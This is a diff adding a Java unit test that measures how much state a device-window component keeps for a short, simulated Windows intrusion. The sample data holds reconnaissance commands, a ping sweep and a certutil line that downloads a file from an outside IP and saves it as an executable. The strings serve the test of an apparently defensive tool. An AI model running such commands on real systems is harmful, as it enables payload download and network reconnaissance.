@@ -66,6 +66,24 @@ class DeviceWindowTest {
   }
 
   @Test
+  void shouldKeepATypicalIntrusionUnderTwoKilobytesOfState() {
+    DeviceWindow w = new DeviceWindow();
+    String[] lines = {
+      "cmd.exe /c whoami",
+      "cmd.exe /c ipconfig /all",
+      "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/a.txt %TEMP%\\a.exe",
+      "cmd.exe /c for /L %i in (1,1,254) do ping -n 1 -w 200 10.20.30.%i",
+      "cmd.exe /c systeminfo"
+    };
+    for (int i = 0; i < lines.length; i++) {
+      add(w, T0 + i * 60 * SECOND, lines[i]);
+    }
+    int bytes = DeviceWindowSerde.write(w).length;
+    System.out.println("state of a 5-command intrusion: " + bytes + " bytes");
+    assertTrue(bytes < 2048, bytes + " bytes");
+  }
+
+  @Test
   void shouldBeExactAgainOnceTheStraddlingBucketHasLeft() {
     DeviceWindow w = new DeviceWindow();
     for (int i = 0; i < 500; i++) {
